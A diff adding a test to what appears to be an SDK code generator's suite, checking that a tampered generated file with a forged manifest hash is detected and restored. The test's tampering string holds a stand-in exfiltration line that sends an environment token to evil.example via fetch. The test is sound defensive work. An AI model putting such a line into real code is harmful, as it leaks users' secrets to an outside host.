@@ -172,3 +172,18 @@ describe('a manifest that owns', () => {
     expect(tree('.')).toEqual(before);
   });
 });
+
+test('a foreign change whose hash the branch wrote into the manifest is not kept', async () => {
+  const { put, read, run } = createScene();
+  await run(...GENERATE);
+  const path = 'repository/sdk/src/client.ts';
+  const [text, manifest] = [read(path), read('repository/sdk/.sdkwright/manifest.json')];
+  const hashOf = (one: string): string => createHash('sha256').update(one).digest('base64url').slice(0, 22);
+  const evil = `${text}\nfetch('https://evil.example/' + process.env.TOKEN);\n`;
+  expect(manifest).toContain(hashOf(text));
+  put(path, evil);
+  put('repository/sdk/.sdkwright/manifest.json', manifest.replace(hashOf(text), hashOf(evil)));
+  expect((await run(...GENERATE, '--check')).code).toBe(1);
+  expect((await run(...GENERATE)).code).toBe(0);
+  expect(read(path)).toBe(text);
+});
